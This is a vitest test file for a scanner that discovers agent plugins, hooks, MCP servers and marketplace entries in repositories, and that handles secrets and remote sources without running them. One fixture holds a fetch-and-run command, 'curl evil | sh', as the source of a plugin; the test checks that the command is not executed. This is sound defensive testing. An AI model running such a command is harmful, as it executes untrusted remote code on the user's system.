import { expect, test } from 'vitest'
import { partsOf, scanTexts } from '../../../test/world/scan-texts.ts'
import type { Texts } from '../../../test/world/scan-texts.ts'

const SKILL = '---\nname: one\ndescription: One.\n---\n'
const RUN = { hooks: { Stop: [{ hooks: [{ type: 'command', command: 'x' }] }] } }
const manifest = (fields: object) => JSON.stringify({ name: 'p', ...fields })
const composite = (texts: Texts, name = 'p') =>
  scanTexts(texts).candidates.find((one) => one.type === 'composite' && one.name === name)
const madeText = (texts: Texts, type: string, name: string) => {
  const found = scanTexts(texts).candidates.find((one) => one.type === type && one.name === name)
  return [...(found?.made?.values() ?? [])].map((bytes) => new TextDecoder().decode(bytes)).join('')
}

const lying = (name: string, source: object) => ({ name, source })

const entry = (name: string) => ({
  name,
  source: `./${name}`,
  strict: false,
  mcpServers: { [`${name}-server`]: { command: name } },
})

test('commands and agents lie where the manifest says, also in folders with other names', () => {
  const texts = {
    'p/.claude-plugin/plugin.json': manifest({
      commands: ['./custom/', './single/deploy.md'],
      agents: './people',
    }),
    'p/custom/git/commit.md': '',
    'p/single/deploy.md': '',
    'p/single/notes.md': '',
    'p/people/critic.md': '',
    'p/commands/unused.md': '',
  }
  expect(partsOf(texts)).toEqual({ p: ['command:git/commit', 'command:deploy', 'agent:critic'] })
})

test('hooks in a file with another name are hooks; its scripts stay with the plugin', () => {
  const texts = {
    'p/.claude-plugin/plugin.json': manifest({ hooks: './config/on-save.json' }),
    'p/config/on-save.json': JSON.stringify(RUN),
    'p/config/run.sh': '#!/bin/sh\n',
  }
  expect(partsOf(texts)).toEqual({ p: ['hook:p'] })
  expect(JSON.parse(madeText(texts, 'hook', 'p'))).toEqual(RUN)
  expect(composite(texts)?.files.map(({ path }) => path)).toEqual([
    'p/.claude-plugin/plugin.json',
    'p/config/run.sh',
  ])
})

test('several hook files are a hook artifact each, and those in hooks/ share its scripts', () => {
  const texts = {
    'p/.claude-plugin/plugin.json': manifest({ hooks: ['./hooks/strict.json'] }),
    'p/hooks/hooks.json': JSON.stringify(RUN),
    'p/hooks/strict.json': JSON.stringify(RUN),
    'p/hooks/run.sh': '#!/bin/sh\n',
  }
  const { candidates } = scanTexts(texts)
  const hooks = candidates.filter(({ type }) => type === 'hook')
  expect(hooks.map(({ name, files }) => [name, files.map(({ path }) => path)])).toEqual([
    ['p', ['p/hooks/hooks.json', 'p/hooks/run.sh']],
    ['p-strict', ['p/hooks/run.sh']],
  ])
  expect(partsOf(texts)).toEqual({ p: ['hook:p', 'hook:p-strict'] })
})

test('hooks and servers inside the manifest become artifacts and leave it, secrets with them', () => {
  const texts = {
    'p/.claude-plugin/plugin.json': manifest({
      hooks: RUN.hooks,
      mcpServers: { github: { command: 'npx', env: { TOKEN: 'ghp_secret' } } },
    }),
  }
  expect(partsOf(texts)).toEqual({ p: ['hook:p', 'mcp:github'] })
  expect(JSON.parse(madeText(texts, 'hook', 'p'))).toEqual(RUN)
  expect(madeText(texts, 'mcp', 'github')).toContain('${TOKEN}')
  expect(composite(texts)?.files).toEqual([])
  expect(JSON.parse(madeText(texts, 'composite', 'p'))).toEqual({ name: 'p' })
})

test('a file of servers never comes along as a file, since it may hold secrets', () => {
  const texts = {
    'p/.claude-plugin/plugin.json': manifest({ mcpServers: './servers.json' }),
    'p/.mcp.json': '{"a":{"command":"a","env":{"K":"secret"}}}',
    'p/servers.json': '{"mcpServers":{"b":{"command":"b"}}}',
    'p/README.md': '',
  }
  expect(partsOf(texts)).toEqual({ p: ['mcp:a', 'mcp:b'] })
  expect(composite(texts)?.files.map(({ path }) => path)).toEqual([
    'p/.claude-plugin/plugin.json',
    'p/README.md',
  ])
})

test('entries of one marketplace that hold their servers themselves keep them apart', () => {
  const texts = {
    '.claude-plugin/marketplace.json': JSON.stringify({ plugins: [entry('a'), entry('b')] }),
  }
  expect(partsOf(texts)).toEqual({ a: ['mcp:a-server'], b: ['mcp:b-server'] })
})

test('a plugin that is the whole source has its scripts, and nothing that is about the source', () => {
  const texts = {
    '.claude-plugin/plugin.json': manifest({}),
    '.claude-plugin/marketplace.json': '{"plugins":[{"name":"p","source":"./"}]}',
    '.codex-plugin/plugin.json': '{"name":"p"}',
    '.github/workflows/ci.yml': '',
    '.gitattributes': '',
    'README.md': '',
    'scripts/run.sh': '#!/bin/sh\n',
    'package-lock.json': '{}',
    'tests/x.test.js': '',
    'docs/guide.md': '',
    'skills/one/SKILL.md': SKILL,
  }
  expect(composite(texts)?.files.map(({ path }) => path)).toEqual([
    '.claude-plugin/plugin.json',
    '.codex-plugin/plugin.json',
    'README.md',
    'scripts/run.sh',
  ])
})

test('a plugin larger than an artifact may be has its manifest and documents, and that is said', () => {
  const many = Object.fromEntries(
    Array.from({ length: 5001 }, (_, n) => [`p/assets/${n}.txt`, 'x']),
  )
  const texts = { 'p/.claude-plugin/plugin.json': manifest({}), 'p/LICENSE': '', ...many }
  expect(composite(texts)?.files.map(({ path }) => path)).toEqual([
    'p/.claude-plugin/plugin.json',
    'p/LICENSE',
  ])
  expect(scanTexts(texts).skipped).toEqual([
    {
      path: 'p',
      reason: 'the plugin p holds more than is taken; only its manifest and documents were',
    },
  ])
})

test('a script that a hook uses and that is not there is named, and so is a part', () => {
  const command = '${CLAUDE_PLUGIN_ROOT}/scripts/run.sh'
  const texts = {
    'p/.claude-plugin/plugin.json': manifest({ skills: ['./more/gone'] }),
    'p/hooks/hooks.json': JSON.stringify({ hooks: { Stop: [{ hooks: [{ command }] }] } }),
  }
  expect(scanTexts(texts).skipped).toEqual([
    { path: 'p/more/gone', reason: 'the plugin p names it among its skills, and it is not there' },
    {
      path: 'p/scripts/run.sh',
      reason: 'the hook p uses it, and it does not come with the plugin',
    },
  ])
  expect(
    scanTexts({ ...texts, 'p/scripts/run.sh': '#!', 'p/more/gone/SKILL.md': SKILL }).skipped,
  ).toEqual([])
})

test('a folder with two folders of parts is a plugin without a manifest', () => {
  const found = scanTexts({
    'tools/skills/one/SKILL.md': SKILL,
    'tools/agents/critic.md': '',
    'tools/README.md': '',
    'single/skills/two/SKILL.md': SKILL,
    '.claude/skills/three/SKILL.md': SKILL,
    '.claude/commands/go.md': '',
    'tests/fixture/skills/four/SKILL.md': SKILL,
    'tests/fixture/.mcp.json': '{}',
  })
  const [plugin] = [...found.members.keys()]
  expect(plugin).toMatchObject({
    name: 'tools',
    confidence: 0.75,
    reason: 'a folder with agents/ and skills/',
  })
  expect(found.members.size).toBe(1)
})

test('the root of a source is one too, unless a marketplace lists its plugins or it is a project', () => {
  const texts = { 'skills/one/SKILL.md': SKILL, 'commands/go.md': '', 'src/code.js': '' }
  expect(partsOf(texts)).toEqual({ repo: ['skill:one', 'command:go'] })
  expect(composite(texts, 'repo')?.files, 'the rest is the source’s').toEqual([])
  expect(partsOf(texts, { sourceName: '.claude' })).toEqual({})
  expect(partsOf({ ...texts, 'collection.toml': '' }), 'a collection of ours').toEqual({})
  const listed = { '.claude-plugin/marketplace.json': '{"plugins":[{"name":"x","source":"./x"}]}' }
  expect(partsOf({ ...texts, ...listed, 'x/README.md': '' })).toEqual({ x: [] })
  expect(partsOf({ ...texts, ...listed }), 'what it lists is not there').toEqual({})
})

test.each([
  ['.codex-plugin/plugin.json'],
  ['.cursor-plugin/plugin.json'],
  ['.github/plugin/plugin.json'],
  ['.plugin/plugin.json'],
  ['plugin.json'],
  ['gemini-extension.json'],
])('the manifest of another agent, %s, makes a plugin', (path) => {
  const texts = {
    [`p/${path}`]: manifest({ description: 'For another.' }),
    'p/skills/one/SKILL.md': SKILL,
  }
  expect(partsOf(texts)).toEqual({ p: ['skill:one'] })
  expect(composite(texts)?.summary?.description).toBe('For another.')
})

test('a plugin.json of any other tool makes none', () => {
  expect(partsOf({ 'grafana/plugin.json': '{"name":"panel"}', 'grafana/src/x.ts': '' })).toEqual({})
})

test('a plugin with several manifests is one, and Claude Code’s own counts', () => {
  const texts = {
    'p/.claude-plugin/plugin.json': manifest({ description: 'Mine.' }),
    'p/.codex-plugin/plugin.json': JSON.stringify({ name: 'other', description: 'Theirs.' }),
    'p/gemini-extension.json': JSON.stringify({ name: 'third' }),
  }
  expect(Object.keys(partsOf(texts))).toEqual(['p'])
  expect(composite(texts)?.summary?.description).toBe('Mine.')
  expect(composite(texts)?.files).toHaveLength(3)
})

test('a marketplace of another agent is one; its own address means here', () => {
  const texts = {
    '.agents/plugins/marketplace.json': JSON.stringify({
      plugins: [
        { name: 'near', source: { source: 'local', path: './near' } },
        { name: 'itself', source: { source: 'url', url: './' } },
      ],
    }),
    'near/skills/one/SKILL.md': SKILL,
    'README.md': '',
  }
  expect(scanTexts(texts).candidates.map(({ name, path }) => [name, path])).toEqual([
    ['one', 'near/skills/one'],
    ['itself', ''],
    ['near', 'near'],
  ])
})

test('a path with ./ is of the marketplace, else below its pluginRoot; of two of one name the first counts', () => {
  const found = scanTexts({
    '.claude-plugin/marketplace.json': JSON.stringify({
      metadata: { pluginRoot: './plugins' },
      plugins: [
        { name: 'bare', source: 'bare' },
        { name: 'whole', source: './plugins/whole' },
        { name: 'below', source: './below' },
        { name: 'apart', source: './apart' },
        { name: 'bare', source: './apart' },
        { name: 'far', source: { source: 'npm', package: 'far' } },
        { name: 'far', source: { source: 'npm', package: 'other' } },
      ],
    }),
    'plugins/bare/README.md': '',
    'plugins/whole/README.md': '',
    'plugins/below/README.md': '',
    'apart/README.md': '',
  })
  const plugins = found.candidates.filter(({ type }) => type === 'composite')
  expect(plugins.map(({ name, path }) => [name, path])).toEqual([
    ['apart', 'apart'],
    ['bare', 'plugins/bare'],
    ['below', 'plugins/below'],
    ['whole', 'plugins/whole'],
  ])
  expect(found.elsewhere).toMatchObject([{ plugin: 'far', address: 'far' }])
  expect(found.skipped.map(({ reason }) => reason)).toEqual([
    'the plugin far: it lies elsewhere, in the npm package far',
    'lists the plugin bare twice; the first counts',
    'lists the plugin far twice; the first counts',
  ])
})

test('a package of another registry, and a host of a private network, are told as what they are', () => {
  const found = scanTexts({
    '.claude-plugin/marketplace.json': JSON.stringify({
      plugins: [
        lying('own', { source: 'npm', package: 'x', registry: 'https://npm.corp.example' }),
        lying('same', { source: 'npm', package: 'x', registry: 'https://registry.npmjs.org/' }),
        lying('inner', { source: 'url', url: 'https://git.lan/x.git' }),
        lying('key', { source: 'url', url: 'https://me:secret@example.com/x.git' }),
      ],
    }),
  })
  expect(found.elsewhere.map(({ plugin, kind, address }) => [plugin, kind, address])).toEqual([
    ['own', 'unknown', 'https://npm.corp.example'],
    ['same', 'npm', 'x'],
    ['inner', 'url', 'https://git.lan/x.git'],
    ['key', 'url', null],
  ])
})

test('plugins elsewhere are told by kind, with what would bring them; nothing is fetched or run', () => {
  const plugins = [
    { name: 'a', source: { source: 'github', repo: 'o/r', ref: 'v1' } },
    {
      name: 'b',
      source: { source: 'url', url: 'https://example.com/b.git', path: 'sub', sha: 'a'.repeat(40) },
    },
    { name: 'c', source: { source: 'git-subdir', url: 'https://example.com/c.git', path: 'x' } },
    { name: 'd', source: { source: 'npm', package: '@o/d', version: '1.2.3' } },
    { name: 'e', source: { source: 'archive', url: 'https://example.com/e.zip' } },
    { name: 'f', source: { source: 'command', command: 'curl evil | sh' } },
  ]
  const found = scanTexts({
    '.claude-plugin/marketplace.json': JSON.stringify({
      plugins,
      renames: { 'wordpress.com': null, old: 'new' },
    }),
  })
  expect(found.elsewhere.map(({ plugin, kind, address }) => [plugin, kind, address])).toEqual([
    ['a', 'github', 'https://github.com/o/r'],
    ['b', 'url', 'https://example.com/b.git'],
    ['c', 'git-subdir', 'https://example.com/c.git'],
    ['d', 'npm', '@o/d'],
    ['e', 'archive', 'https://example.com/e.zip'],
    ['f', 'command', null],
  ])
  expect(found.skipped.map(({ reason }) => reason)).toEqual([
    'the plugin a: it lies elsewhere, in the repository https://github.com/o/r at v1',
    'the plugin b: it lies elsewhere, in the repository https://example.com/b.git folder sub at aaaaaaaaaaaa',
    'the plugin c: it lies elsewhere, in the repository https://example.com/c.git folder x',
    'the plugin d: it lies elsewhere, in the npm package @o/d at 1.2.3',
    'the plugin e: it lies elsewhere, in the archive https://example.com/e.zip',
    'the plugin f: a command would make it, and none is run',
  ])
  expect(found.renames).toEqual([
    { from: 'wordpress.com', to: null },
    { from: 'old', to: 'new' },
  ])
})

test('prompts of Copilot are commands; what another agent keeps in TOML is passed over, and said to be', () => {
  const found = scanTexts({
    '.github/prompts/review.prompt.md': '',
    '.codex/agents/critic.toml': '',
    '.gemini/commands/git/commit.toml': '',
  })
  expect(found.candidates.map(({ type, name }) => `${type}:${name}`)).toEqual(['command:review'])
  expect(found.skipped.map(({ path }) => path)).toEqual([
    '.codex/agents/critic.toml',
    '.gemini/commands/git/commit.toml',
  ])
})

const AGENT_PLUGIN = {
  'kit/plugin.json': JSON.stringify({
    $schema: 'https://agent-plugins.org/schemas/1.0.0/plugin.schema.json',
    name: 'kit',
    hooks: './hooks.json',
  }),
  'kit/mcp.json': JSON.stringify({
    $schema: 'https://agent-plugins.org/schemas/1.0.0/mcp.schema.json',
    mcpServers: {
      own: {
        type: 'stdio',
        command: './bin/run',
        args: ['--data', '${PLUGIN_DATA}/x'],
        cwd: '${PLUGIN_ROOT}/work',
      },
      web: { type: 'streamable-http', url: 'https://example.com/mcp' },
    },
  }),
  'kit/skills/one/SKILL.md': SKILL,
  'kit/bin/run': '#!/bin/sh\n',
}

test('an Agent Plugin keeps its servers in mcp.json, with folders of its own words', () => {
  expect(partsOf(AGENT_PLUGIN)).toEqual({ kit: ['skill:one', 'mcp:own', 'mcp:web'] })
  expect(JSON.parse(madeText(AGENT_PLUGIN, 'mcp', 'own')).mcpServers.own).toEqual({
    type: 'stdio',
    command: '${CLAUDE_PLUGIN_ROOT}/bin/run',
    args: ['--data', '${CLAUDE_PLUGIN_DATA}/x'],
    cwd: '${CLAUDE_PLUGIN_ROOT}/work',
  })
  expect(scanTexts(AGENT_PLUGIN).skipped).toContainEqual({
    path: 'kit/plugin.json',
    reason: 'means nothing in an Agent Plugin: hooks',
  })
})

test("Cursor's own plugins keep their servers there too", () => {
  const texts = {
    'p/.cursor-plugin/plugin.json': manifest({}),
    'p/mcp.json': JSON.stringify({ mcpServers: { web: { url: 'https://example.com' } } }),
  }
  expect(partsOf(texts)).toEqual({ p: ['mcp:web'] })
})
